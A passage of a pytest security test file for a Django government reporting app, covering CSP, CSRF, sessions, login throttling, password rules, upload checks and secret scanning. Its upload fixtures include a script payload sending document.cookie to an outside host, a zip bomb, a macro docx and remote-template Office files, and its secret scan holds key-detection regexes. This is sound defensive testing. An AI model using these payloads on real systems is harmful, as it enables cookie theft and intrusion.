"""The security rules of docs/security.md, one or more tests each.

1 content security policy · 2 CSRF · 3 cookies and session expiry · 4 `check --deploy` ·
5 sign-in throttle · 6 password rules · 7 uploads · 8 no secrets in the repository · 9 headers.
"""

import datetime as dt
import io
import json
import os
import re
import secrets
import subprocess
import sys
import time
import zipfile
from datetime import timedelta
from pathlib import Path

import docx
import pytest
from django.conf import settings
from django.contrib.auth.password_validation import validate_password
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook

from steer.accounts.models import SignInFailure, User
from steer.core import uploads
from steer.core.middleware import SEEN_AT, SIGNED_IN_AT
from steer.documents import layout
from steer.documents.models import DocumentTemplate
from steer.documents.services import check_template
from steer.reporting.models import Evidence, ImportBatch
from steer.steering import services
from steer.steering.models import Attachment
from steer.units.models import OrgUnit

pytestmark = pytest.mark.django_db

ROOT = Path(settings.BASE_DIR)
P = "/p/07-ctr-tu"
DEMO_PASSWORD = "demo-steer-07"
LOGIN = "/accounts/login/"


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


# -- 1. content security policy -------------------------------------------------------------


def policy(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    return {d.split()[0]: d.split()[1:] for d in header.split(";") if d.strip()}


PAGES = [
    f"{P}/",
    f"{P}/indicators/CT07/",
    f"{P}/reports/BC6T-DP/2025S1/006/",
    f"{P}/documents/1/",
    "/admin/",
    "/api/v1/docs",
]


@pytest.mark.parametrize("page", PAGES)
def test_pages_carry_a_strict_content_security_policy(login, page):
    response = login("quantri").get(page)
    assert response.status_code == 200
    directives = policy(response)
    assert directives["default-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'self'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert directives["form-action"] == ["'self'"]
    script = directives["script-src"]
    assert script[0] == "'self'" and all(s.startswith("'nonce-") for s in script[1:])
    # Nothing from elsewhere: no CDN, no host, no scheme but data: images (Vega's PNGs).
    sources = [s for values in directives.values() for s in values]
    assert not [s for s in sources if "unsafe" in s or "://" in s or s == "*"]
    assert [s for s in sources if s.endswith(":")] == ["data:"]


def executable_scripts(html: str) -> list[str]:
    """The opening tags of the scripts a browser would run inline (no src, a script type)."""
    tags = re.findall(r"<script\b[^>]*>", html)
    return [
        t for t in tags if "src=" not in t and not re.search(r'type="application/(ld\+)?json"', t)
    ]


def test_the_inline_script_of_the_report_entry_page_carries_the_requests_nonce(login):
    response = login("baocao.dongda").get(f"{P}/reports/BC6T-DP/2025S1/006/")
    nonce = policy(response)["script-src"][1].removeprefix("'nonce-").rstrip("'")
    inline = executable_scripts(response.content.decode())
    assert inline == [f'<script nonce="{nonce}">']
    # A new nonce for every response.
    again = login("baocao.dongda").get(f"{P}/reports/BC6T-DP/2025S1/006/")
    assert policy(again)["script-src"][1] != policy(response)["script-src"][1]


@pytest.mark.parametrize("page", PAGES + [f"{P}/reports/BC6T-DP/?period=2024S2", LOGIN])
def test_pages_have_no_inline_handler_style_or_script_without_the_nonce(login, page):
    response = login("quantri").get(page)
    html = response.content.decode()
    header = response["Content-Security-Policy"]
    for tag in executable_scripts(html):
        nonce = re.search(r'nonce="([^"]+)"', tag)
        assert nonce and f"'nonce-{nonce.group(1)}'" in header, tag
    assert not re.findall(r"<[^>]+\son[a-z]+=", html)
    assert "<style" not in html
    assert not re.findall(r"<[^>]+\sstyle=", html)


def test_no_template_has_an_inline_handler_style_or_script_without_the_nonce():
    found = []
    for path in (ROOT / "steer").rglob("templates/**/*.html"):
        text = path.read_text(encoding="utf-8")
        for tag in executable_scripts(text):
            if 'nonce="{{ CSP_NONCE }}"' not in tag:
                found.append(f"{path.name}: {tag}")
        found += [f"{path.name}: {m}" for m in re.findall(r"<[^>]+\s(?:on[a-z]+|style)=", text)]
        found += [f"{path.name}: <style>" for _ in re.findall(r"<style\b", text)]
    assert found == []


def test_htmx_adds_no_inline_style_and_evaluates_no_code(login):
    html = login("xem.thuongtin").get(f"{P}/").content.decode()
    config = re.search(r"<meta name=\"htmx-config\" content='([^']+)'>", html)
    assert json.loads(config.group(1)) == {
        "includeIndicatorStyles": False,
        "allowEval": False,
        "allowScriptTags": False,
    }
    css = (ROOT / "steer/core/static/steer/steer.css").read_text()
    assert ".htmx-request .htmx-indicator" in css and "#vg-tooltip-element" in css


def test_every_asset_is_served_by_the_app():
    """No page loads a script, stylesheet or font from a CDN."""
    found = []
    for path in (ROOT / "steer").rglob("templates/**/*.html"):
        text = path.read_text(encoding="utf-8")
        found += re.findall(r"<(?:script|link|img)\b[^>]*(?:src|href)=\"(?:https?:)?//[^\"]+", text)
    assert found == []


# -- 2. CSRF --------------------------------------------------------------------------------


def test_a_post_without_the_csrf_token_is_refused_and_with_it_accepted():
    client = Client(enforce_csrf_checks=True)
    client.force_login(User.objects.get(username="baocao.dongda"))
    refused = client.post("/i18n/setlang/", {"language": "en", "next": f"{P}/"})
    assert refused.status_code == 403
    assert settings.LANGUAGE_COOKIE_NAME not in refused.cookies

    page = client.get(f"{P}/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode())
    accepted = client.post(
        "/i18n/setlang/",
        {"language": "en", "next": f"{P}/", "csrfmiddlewaretoken": token.group(1)},
    )
    assert accepted.status_code == 302
    assert accepted.cookies[settings.LANGUAGE_COOKIE_NAME].value == "en"


def test_htmx_posts_carry_the_token_in_a_header():
    client = Client(enforce_csrf_checks=True)
    client.force_login(User.objects.get(username="baocao.dongda"))
    url = f"{P}/reports/BC6T-DP/2025S1/006/check/"
    page = client.get(f"{P}/reports/BC6T-DP/2025S1/006/").content.decode()
    token = re.search(r"hx-headers='\{\"X-CSRFToken\": \"([^\"]+)\"\}'", page).group(1)
    refused = client.post(url, {"field": "v-CT07", "v-CT07": "5"}, HTTP_HX_REQUEST="true")
    assert refused.status_code == 403
    response = client.post(
        url, {"field": "v-CT07", "v-CT07": "5"}, HTTP_HX_REQUEST="true", HTTP_X_CSRFTOKEN=token
    )
    assert response.status_code == 200


# -- 3. cookies and session expiry ----------------------------------------------------------


def test_the_session_cookie_is_http_only_and_same_site(client):
    response = client.post(LOGIN, {"username": "bancd", "password": DEMO_PASSWORD})
    assert response.status_code == 302
    cookie = response.cookies[settings.SESSION_COOKIE_NAME]
    assert cookie["httponly"] is True
    assert cookie["samesite"] == "Lax"
    assert int(cookie["max-age"]) == 8 * 3600
    assert not cookie["secure"]  # plain HTTP in development; STEER_HTTPS=1 turns it on


def production_environment(tmp_path, **extra) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("STEER_", "DATABASE_URL"))}
    env |= {
        "STEER_DEBUG": "0",
        "STEER_SECRET_KEY": secrets.token_urlsafe(50),
        "STEER_ALLOWED_HOSTS": "steer.hanoi.gov.vn",
        "STEER_HTTPS": "1",
        "STEER_VAR_DIR": str(tmp_path),
    }
    return env | extra


def test_with_steer_https_cookies_are_secure_and_http_is_redirected(tmp_path):
    script = (
        "import json, django; from django.conf import settings as s; django.setup(); "
        "print(json.dumps([s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE, s.SECURE_SSL_REDIRECT,"
        " s.SECURE_PROXY_SSL_HEADER, s.SECURE_HSTS_SECONDS, s.DEBUG, s.DEMO_MODE]))"
    )
    env = production_environment(tmp_path, DJANGO_SETTINGS_MODULE="steer.settings")
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=ROOT, env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    secure, csrf, redirect, proxy, hsts, debug, demo = json.loads(done.stdout)
    assert secure and csrf and redirect
    assert proxy == ["HTTP_X_FORWARDED_PROTO", "https"]
    assert hsts >= 365 * 24 * 3600
    assert not debug and not demo


@pytest.fixture
def signed_in(client):
    response = client.post(LOGIN, {"username": "thuongtruc", "password": DEMO_PASSWORD})
    assert response.status_code == 302
    return client


def shift_session(client, **seconds_ago):
    session = client.session
    now = int(time.time())
    for key, ago in seconds_ago.items():
        session[{"signed_in": SIGNED_IN_AT, "seen": SEEN_AT}[key]] = now - ago
    session.save()


def test_sixty_minutes_without_a_request_sign_the_user_out(signed_in):
    shift_session(signed_in, signed_in=3600, seen=59 * 60)
    assert signed_in.get(f"{P}/").status_code == 200
    shift_session(signed_in, seen=60 * 60 + 1)
    response = signed_in.get(f"{P}/")
    assert response.status_code == 302 and response["Location"].startswith(LOGIN)
    assert messages_of(response) == [
        "Bạn đã bị đăng xuất sau 60 phút không hoạt động. Vui lòng đăng nhập lại."
    ]
    assert signed_in.get(f"{P}/").status_code == 302


def test_eight_hours_after_signing_in_the_session_ends_even_if_active(signed_in):
    shift_session(signed_in, signed_in=8 * 3600 - 60, seen=30)
    assert signed_in.get(f"{P}/").status_code == 200
    shift_session(signed_in, signed_in=8 * 3600 + 1, seen=30)
    response = signed_in.get(f"{P}/")
    assert response.status_code == 302 and response["Location"].startswith(LOGIN)
    assert messages_of(response) == [
        "Phiên làm việc đã kết thúc sau 8 giờ kể từ khi đăng nhập. Vui lòng đăng nhập lại."
    ]


def test_an_expired_htmx_request_reloads_the_page_instead_of_swapping_in_the_sign_in_form(
    signed_in,
):
    shift_session(signed_in, seen=2 * 3600)
    response = signed_in.get("/units/?q=Đống", HTTP_HX_REQUEST="true")
    assert response.status_code == 204 and response["HX-Refresh"] == "true"


def test_the_activity_stamp_is_written_at_most_once_a_minute(signed_in):
    shift_session(signed_in, seen=30)
    stamp = signed_in.session[SEEN_AT]
    response = signed_in.get("/units/")
    assert signed_in.session[SEEN_AT] == stamp
    assert settings.SESSION_COOKIE_NAME not in response.cookies  # the session was not saved
    shift_session(signed_in, seen=90)
    response = signed_in.get("/units/")
    assert signed_in.session[SEEN_AT] >= int(time.time()) - 5
    assert settings.SESSION_COOKIE_NAME in response.cookies


# -- 4. check --deploy ----------------------------------------------------------------------


def deploy_check(env) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
    )


def test_check_deploy_is_clean_with_the_production_settings(tmp_path):
    done = deploy_check(production_environment(tmp_path))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "System check identified no issues" in done.stdout
    assert "WARNING" not in done.stdout + done.stderr


def test_check_deploy_fails_without_https_or_with_demo_mode(tmp_path):
    done = deploy_check(production_environment(tmp_path, STEER_HTTPS="0", STEER_DEMO="1"))
    assert done.returncode != 0
    for check in ("security.W004", "security.W008", "security.W012", "steer.W001"):
        assert check in done.stderr + done.stdout


# -- 5. sign-in throttle --------------------------------------------------------------------


def sign_in(username, password, address="10.20.30.40"):
    client = Client(REMOTE_ADDR=address)
    return client.post(LOGIN, {"username": username, "password": password})


def error_of(response) -> str:
    assert response.status_code == 200, "signed in"
    return " ".join(response.context["form"].non_field_errors())


def test_five_failures_lock_the_account_even_for_the_right_password():
    for attempt in range(4):
        assert "mật khẩu chính xác" in error_of(sign_in("baocao.dongda", f"sai-{attempt}"))
    fifth = error_of(sign_in("baocao.dongda", "sai-5"))
    assert "tạm khóa" in fifth
    locked = error_of(sign_in("baocao.dongda", DEMO_PASSWORD, address="10.99.0.1"))
    assert locked.startswith("Đăng nhập sai quá nhiều lần: tài khoản này bị tạm khóa đến")
    assert "khoảng 15 phút" in locked
    # Failures while locked are not counted again, and other accounts are not touched.
    assert SignInFailure.objects.filter(username="baocao.dongda").count() == 5
    assert sign_in("lanhdao.dongda", DEMO_PASSWORD).status_code == 302


def test_the_account_opens_again_fifteen_minutes_after_the_lock():
    for attempt in range(5):
        sign_in("lanhdao.dongda", f"nham-mat-khau-{attempt}")
    assert "tạm khóa" in error_of(sign_in("lanhdao.dongda", DEMO_PASSWORD))
    failures = SignInFailure.objects.filter(username="lanhdao.dongda")
    for failure in failures:
        failure.at -= timedelta(minutes=14)
        failure.save()
    assert "tạm khóa" in error_of(sign_in("lanhdao.dongda", DEMO_PASSWORD))
    for failure in failures:
        failure.at -= timedelta(minutes=1, seconds=1)
        failure.save()
    assert sign_in("lanhdao.dongda", DEMO_PASSWORD).status_code == 302


def test_a_success_clears_the_usernames_failures():
    for attempt in range(4):
        sign_in("kiemtra", f"sai-{attempt}")
    assert sign_in("kiemtra", DEMO_PASSWORD).status_code == 302
    assert not SignInFailure.objects.filter(username="kiemtra").exists()
    for attempt in range(4):
        sign_in("kiemtra", f"lai-sai-{attempt}")
    assert sign_in("kiemtra", DEMO_PASSWORD).status_code == 302


def test_thirty_failures_from_one_address_refuse_it_whatever_the_username():
    address = "203.162.4.7"
    for n in range(30):
        sign_in(f"khong-ton-tai-{n}", "doan-mo-mat-khau", address=address)
    refused = error_of(sign_in("xem.thuongtin", DEMO_PASSWORD, address=address))
    assert refused == (
        "Có quá nhiều lần đăng nhập sai từ máy tính này. Vui lòng chờ 15 phút rồi thử lại."
    )
    assert sign_in("xem.thuongtin", DEMO_PASSWORD, address="203.162.4.8").status_code == 302


def test_only_failures_count_many_sign_ins_from_one_address_pass():
    for _ in range(40):
        assert sign_in("bancd", DEMO_PASSWORD, address="127.0.0.1").status_code == 302
    assert not SignInFailure.objects.exists()


def test_the_address_comes_from_the_proxy_header_only_when_configured(settings):
    client = Client(REMOTE_ADDR="127.0.0.1", HTTP_X_REAL_IP="113.160.1.2")
    client.post(LOGIN, {"username": "bancd", "password": "sai"})
    assert SignInFailure.objects.get().address == "127.0.0.1"
    settings.CLIENT_IP_HEADER = "X-Real-IP"
    client.post(LOGIN, {"username": "bancd", "password": "sai"})
    assert SignInFailure.objects.latest("at").address == "113.160.1.2"


def test_the_back_office_has_no_sign_in_of_its_own(client):
    response = client.get("/admin/login/?next=/admin/units/orgunit/")
    assert response.status_code == 302
    assert response["Location"] == f"{LOGIN}?next=/admin/units/orgunit/"
    # A POST of credentials there signs no one in.
    response = client.post("/admin/login/", {"username": "quantri", "password": DEMO_PASSWORD})
    assert response.status_code == 302 and "_auth_user_id" not in client.session
    # Elsewhere is not a target.
    response = client.get("/admin/login/?next=https://example.com/")
    assert response["Location"] == f"{LOGIN}?next=/admin/"
    client.force_login(User.objects.get(username="xem.thuongtin"))
    assert client.get("/admin/login/").status_code == 403


# -- 6. password rules ----------------------------------------------------------------------


def change_password(client, old, new):
    return client.post(
        "/accounts/password/",
        {"old_password": old, "new_password1": new, "new_password2": new},
    )


@pytest.mark.parametrize(
    ("new", "message"),
    [
        ("Hn-07-abc", "Mật khẩu quá ngắn: phải có ít nhất 10 ký tự."),
        ("qwertyuiop", "Mật khẩu này quá phổ biến."),
        ("2025071020251", "Mật khẩu này hoàn toàn là số."),
        ("baocao.dongda1", "Mật khẩu quá giống với tên đăng nhập."),
    ],
)
def test_a_weak_new_password_is_refused_with_its_reason(login, new, message):
    client = login("baocao.dongda")
    response = change_password(client, DEMO_PASSWORD, new)
    assert response.status_code == 200
    # Django's own catalogue writes "Tên đăng nhập" capitalised mid-sentence.
    assert message.lower() in [e.lower() for e in response.context["form"].errors["new_password2"]]
    assert User.objects.get(username="baocao.dongda").check_password(DEMO_PASSWORD)


def test_a_user_changes_their_own_password_and_the_old_one_stops_working(login):
    client = login("baocao.dongda")
    page = client.get(f"{P}/").content.decode()
    assert 'href="/accounts/password/"' in page
    wrong = change_password(client, "khong-phai-mat-khau-cu", "Khcn-Dong-Da-2025")
    assert "Mật khẩu cũ không chính xác" in wrong.context["form"].errors["old_password"][0]
    response = change_password(client, DEMO_PASSWORD, "Khcn-Dong-Da-2025")
    assert response.status_code == 302
    assert messages_of(response) == ["Đã đổi mật khẩu."]
    assert client.get(f"{P}/").status_code == 200  # still signed in
    assert sign_in("baocao.dongda", DEMO_PASSWORD).status_code == 200
    assert sign_in("baocao.dongda", "Khcn-Dong-Da-2025").status_code == 302


def test_the_published_demo_password_meets_the_rules():
    for user in User.objects.filter(is_demo=True):
        validate_password(DEMO_PASSWORD, user)
    rules = {rule["NAME"].rsplit(".", 1)[1]: rule for rule in settings.AUTH_PASSWORD_VALIDATORS}
    assert rules["MinimumLengthValidator"]["OPTIONS"] == {"min_length": 10}
    assert "OwnNameValidator" in rules


def refusals(password, user) -> list[str]:
    try:
        validate_password(password, user)
    except ValidationError as error:
        return error.messages
    return []


@pytest.mark.parametrize(
    ("password", "message"),
    [
        ("bancd12345", "Mật khẩu chứa tên đăng nhập (“bancd”)."),
        ("Khcn-BanCD-2025", "Mật khẩu chứa tên đăng nhập (“bancd”)."),
        ("tm.duc-1985-hn", "Mật khẩu chứa tên trong địa chỉ email (“tm.duc”)."),
        ("Hanoi-TranMinhDuc", "Mật khẩu chứa họ và tên (“Trần Minh Đức”)."),
        ("ĐỨC.hà.nội.1985", "Mật khẩu chứa một phần của họ và tên (“Đức”)."),
        ("minh-hanoi-2025", "Mật khẩu chứa một phần của họ và tên (“Minh”)."),
    ],
)
def test_a_password_holding_the_users_own_name_is_refused_on_the_change_password_page(
    login, password, message
):
    User.objects.filter(username="bancd").update(email="tm.duc@hanoi.gov.vn")
    response = change_password(login("bancd"), DEMO_PASSWORD, password)
    assert response.status_code == 200
    assert message in response.context["form"].errors["new_password2"]
    assert User.objects.get(username="bancd").check_password(DEMO_PASSWORD)


def test_a_password_little_more_than_short_names_is_refused():
    user = User(username="le.ha", full_name="Lê Hà", email="lh.vanphong@hanoi.gov.vn")
    little_more = (
        "Mật khẩu gần như chỉ là tên đăng nhập, họ và tên hay địa chỉ email, "
        "thêm chữ số hoặc ký hiệu."
    )
    assert refusals("Ha.Le-19900101", user) == [little_more]
    assert refusals("HÀ.LÊ!!2025-07", user) == [little_more]
    # Names of two letters are inside too many words to refuse every password that holds them.
    assert refusals("Ha-Long-Bay-2025", user) == []


def test_a_password_of_other_words_is_accepted_whatever_the_name():
    bancd = User.objects.get(username="bancd")
    assert refusals("Hoan-Kiem-Ho-Guom-9", bancd) == []
    assert refusals("bancd12345", User(username="nguoi.khac")) == []


def test_the_back_office_refuses_a_password_holding_the_new_users_name(login):
    client = login("quantri")
    data = {"username": "nguyen.hoa", "full_name": "Nguyễn Văn Hòa", "unit": ""}
    refused = client.post(
        "/admin/accounts/user/add/",
        data | {"password1": "Hoa.Nguyen.2025", "password2": "Hoa.Nguyen.2025"},
    )
    assert refused.status_code == 200
    assert "Mật khẩu chứa một phần của họ và tên (“Nguyễn”)." in refused.content.decode()
    assert not User.objects.filter(username="nguyen.hoa").exists()
    bancd = User.objects.get(username="bancd")
    changed = client.post(
        f"/admin/accounts/user/{bancd.pk}/password/",
        {"password1": "bancd12345", "password2": "bancd12345"},
    )
    assert "Mật khẩu chứa tên đăng nhập (“bancd”)." in changed.content.decode()
    assert User.objects.get(username="bancd").check_password(DEMO_PASSWORD)


def test_createsuperuser_without_input_refuses_a_password_holding_the_username(monkeypatch):
    monkeypatch.setenv("DJANGO_SUPERUSER_PASSWORD", "quantri.hn-Ho-Tay-9")
    with pytest.raises(CommandError, match="Mật khẩu chứa tên đăng nhập"):
        call_command("createsuperuser", "--noinput", username="quantri.hn", email="")
    assert not User.objects.filter(username="quantri.hn").exists()
    monkeypatch.setenv("DJANGO_SUPERUSER_PASSWORD", "Ho-Tay-Sen-Hong-2025")
    call_command("createsuperuser", "--noinput", username="quantri.hn", email="", verbosity=0)
    assert User.objects.get(username="quantri.hn").check_password("Ho-Tay-Sen-Hong-2025")


# -- 7. uploads -----------------------------------------------------------------------------


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


def real_docx(macros=False) -> bytes:
    data = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("Biên bản làm việc với UBND quận Đống Đa ngày 17/4/2025")
    document.save(data)
    if not macros:
        return data.getvalue()
    with zipfile.ZipFile(data, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\x00Attribute VB_Name")
    return data.getvalue()


def with_relationship(data: bytes, rels: str, target: str, kind: str, external=True) -> bytes:
    """The Office file with one more relationship in `rels` (a part's list of links)."""
    mode = ' TargetMode="External"' if external else ""
    link = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}"{mode}/>'
    )
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    empty = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        names = source.namelist()
        for name in names:
            part = source.read(name)
            if name == rels:
                part = part.replace(b"</Relationships>", link.encode() + b"</Relationships>")
            archive.writestr(name, part)
        if rels not in names:
            archive.writestr(rels, empty.replace("</Relationships>", link + "</Relationships>"))
    return out.getvalue()


def real_xlsx() -> bytes:
    book = Workbook()
    book.active.append(["Mã đơn vị", "Kỳ", "Chỉ tiêu", "Giá trị"])
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def real_odt() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
    return data.getvalue()


def zip_bomb() -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "wordprocessingml.document.main+xml")
        archive.writestr("word/document.xml", b"\x00" * (4 * 1024 * 1024))
    return data.getvalue()


HTML = (
    b"<!DOCTYPE html><html><body><script>document.location='http://x.vn/?'+document.cookie</script>"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64

GOOD = [
    ("bao-cao.pdf", b"%PDF-1.7\n1 0 obj"),
    ("bien-ban.docx", real_docx()),
    ("so-lieu.xlsx", real_xlsx()),
    ("to-trinh.odt", real_odt()),
    ("anh-chup.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
    ("anh-chup.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF"),
    ("cong-van-cu.doc", uploads.OLE + b"\x00" * 32),
]
BAD = [
    ("bao-cao.pdf", HTML, "không phải là tệp PDF thật"),
    ("bien-ban.docx", EXE, "không phải là tệp DOCX thật"),
    ("so-lieu.xlsx", HTML, "không phải là tệp XLSX thật"),
    ("anh-chup.png", EXE, "không phải là tệp PNG thật"),
    ("bien-ban.docx", real_xlsx(), "không phải là tệp DOCX thật"),
    ("so-lieu.xlsx", real_docx(), "không phải là tệp XLSX thật"),
    ("to-trinh.odt", real_docx(), "không phải là tệp ODT thật"),
    ("bien-ban.docx", real_docx(macros=True), "có chứa macro"),
    ("bien-ban.docx", zip_bomb(), "kích thước bất thường"),
    ("trang-web.html", HTML, "không được chấp nhận"),
]


@pytest.mark.parametrize(("name", "content"), GOOD)
def test_a_document_is_accepted_when_its_content_matches_its_name(name, content):
    uploads.check_content(SimpleUploadedFile(name, content))


@pytest.mark.parametrize(("name", "content", "message"), BAD)
def test_a_file_whose_content_is_not_what_its_name_says_is_refused(name, content, message):
    with pytest.raises(uploads.UnsafeUpload, match=message) as refused:
        uploads.check_content(SimpleUploadedFile(name, content))
    assert name in str(refused.value)


REMOTE_TEMPLATE = with_relationship(
    real_docx(),
    "word/_rels/settings.xml.rels",
    "http://203.0.113.9/mau/bien-ban.dotm",
    "attachedTemplate",
)
LINKED_PICTURE = with_relationship(
    real_docx(), "word/_rels/document.xml.rels", "file://///10.1.2.3/chia-se/con-dau.png", "image"
)
LINKED_WORKBOOK = with_relationship(
    real_xlsx(),
    "xl/worksheets/_rels/sheet1.xml.rels",
    "http://203.0.113.9/bao-cao.png",
    "image",
)
WEB_LINK = with_relationship(
    real_docx(), "word/_rels/document.xml.rels", "https://dichvucong.hanoi.gov.vn/", "hyperlink"
)


@pytest.mark.parametrize(
    ("name", "content", "target"),
    [
        ("bien-ban.docx", REMOTE_TEMPLATE, "http://203.0.113.9/mau/bien-ban.dotm"),
        ("bien-ban.docx", LINKED_PICTURE, "file://///10.1.2.3/chia-se/con-dau.png"),
        ("so-lieu.xlsx", LINKED_WORKBOOK, "http://203.0.113.9/bao-cao.png"),
    ],
    ids=["remote-template", "picture-on-a-network-share", "workbook-picture"],
)
def test_an_office_file_linking_content_from_outside_itself_is_refused(name, content, target):
    with pytest.raises(uploads.UnsafeUpload) as refused:
        uploads.check_content(SimpleUploadedFile(name, content))
    assert f"{name} liên kết tới một tệp hoặc địa chỉ bên ngoài nó ({target})" in str(refused.value)


def test_an_office_file_with_web_links_is_accepted():
    uploads.check_content(SimpleUploadedFile("bien-ban.docx", WEB_LINK))


def test_an_attachment_linking_a_remote_template_is_refused_and_not_stored(programme, login, media):
    directive = give_directive(programme)
    client = login("baocao.dongda")
    response = client.post(
        directive.get_absolute_url(),
        {
            "action": "report",
            "unit": OrgUnit.objects.get(code="006").pk,
            "text": "Đã nghiệm thu, gửi kèm biên bản",
            "files": [SimpleUploadedFile("bien-ban-nghiem-thu.docx", REMOTE_TEMPLATE)],
        },
    )
    assert any("bien-ban-nghiem-thu.docx liên kết tới" in m for m in messages_of(response))
    assert not directive.attachments.exists() and not directive.updates.exists()
    assert not any(media.rglob("*.docx"))


def give_directive(programme):
    return services.give_directive(
        programme=programme,
        user=User.objects.get(username="thuongtruc"),
        assignees=[OrgUnit.objects.get(code="006")],
        content="Quận Đống Đa gửi biên bản nghiệm thu hệ thống dịch vụ công trực tuyến",
        given_by="Lê Hồng Sơn, Phó Chủ tịch Thường trực UBND Thành phố",
        # At the 17/4/2025 working session, while the districts still existed.
        given_on=dt.date(2025, 4, 17),
        today=dt.date(2025, 4, 17),
        source="working_session",
        deadline=dt.date(2025, 5, 31),
    )


def test_a_web_page_named_pdf_is_refused_as_a_steering_attachment_and_not_stored(
    programme, login, media
):
    directive = give_directive(programme)
    client = login("baocao.dongda")
    unit = OrgUnit.objects.get(code="006")
    response = client.post(
        directive.get_absolute_url(),
        {
            "action": "report",
            "unit": unit.pk,
            "text": "Đã nghiệm thu, gửi kèm biên bản",
            "files": [SimpleUploadedFile("bien-ban-nghiem-thu.pdf", HTML)],
        },
    )
    refusal = "bien-ban-nghiem-thu.pdf không phải là tệp PDF thật"
    assert any(refusal in m for m in messages_of(response))
    assert not directive.attachments.exists() and not directive.updates.exists()
    assert not any(media.rglob("*.pdf"))


def test_a_web_page_named_docx_is_refused_as_a_document_template(login):
    client = login("thuongtruc")
    fake = io.BytesIO(HTML)
    fake.name = "mau-bao-cao.docx"
    response = client.post(
        "/document-templates/", {"layout": "synthesis", "style": "state", "file": fake}
    )
    assert response.context["form"].errors["file"] == ["Tệp này không phải tệp Word (.docx)."]
    with_macros = io.BytesIO(real_docx(macros=True))
    with_macros.name = "mau-bao-cao.docx"
    response = client.post(
        "/document-templates/", {"layout": "synthesis", "style": "state", "file": with_macros}
    )
    assert "có chứa macro" in response.context["form"].errors["file"][0]
    assert not DocumentTemplate.objects.exists()
    # The built-in template passes the same check.
    check_template(layout.build("synthesis", "state"), "synthesis")


@pytest.mark.parametrize(
    ("name", "content"),
    [("so-lieu.xlsx", HTML), ("so-lieu.csv", EXE), ("so-lieu.csv", b"%PDF-1.4 1 0 obj")],
)
def test_an_import_that_is_not_a_workbook_csv_or_json_is_refused_and_not_kept(login, name, content):
    client = login("baocao.dongda")
    response = client.post(f"{P}/import/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 200
    assert response.context["problems"] == ["Tệp này không phải là tệp Excel, CSV hoặc JSON."]
    assert not ImportBatch.objects.exists()


def test_an_evidence_file_on_a_value_is_checked_by_its_content(quarterly, login, media):
    programme, form = quarterly.programme, quarterly
    client = login("baocao.dongda")
    entry = reverse("report_entry", args=[programme.slug, form.code, "2024Q3", "006"])
    assert client.post(entry, {"action": "save", "v-CT15": "12"}).status_code == 302
    history = reverse("value_history", args=[programme.slug, form.code, "2024Q3", "006"])
    history += "?key=CT15"
    decision = SimpleUploadedFile("quyet-dinh.pdf", "%PDF-1.4 QĐ 1234".encode())
    client.post(history, {"file": decision})
    assert Evidence.objects.filter(name="quyet-dinh.pdf").exists()
    response = client.post(history, {"file": SimpleUploadedFile("danh-sach.pdf", HTML)})
    assert not Evidence.objects.filter(name="danh-sach.pdf").exists()
    assert any("danh-sach.pdf không phải là tệp PDF thật" in m for m in messages_of(response))


def test_stored_files_are_served_only_through_the_permission_checked_view(programme, login, media):
    directive = give_directive(programme)
    [attachment] = services.attach(
        subject=directive,
        user=User.objects.get(username="thuongtruc"),
        files=[SimpleUploadedFile("ke-hoach-kiem-tra.pdf", b"%PDF-1.4 Ke hoach")],
    )
    assert (media / attachment.file.name).exists()
    assert not str(settings.MEDIA_ROOT).startswith(str(ROOT / "steer"))  # not in the app's static
    client = login("quantri")
    for path in (f"/media/{attachment.file.name}", f"/{attachment.file.name}"):
        assert client.get(path).status_code == 404
    url = reverse("steering_file", args=[programme.slug, attachment.pk])
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == b"%PDF-1.4 Ke hoach"
    assert login("xem.thuongtin").get(url).status_code in (403, 404)
    assert Client().get(url).status_code == 302
    assert Attachment.objects.filter(pk=attachment.pk).exists()


# -- 8. no secrets in the repository --------------------------------------------------------

SECRETS = {
    "private key": re.compile(r"-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----"),
    "AWS access key": re.compile(r"\b(?:AKIA|ASIA)[0-9A-Z]{16}\b"),
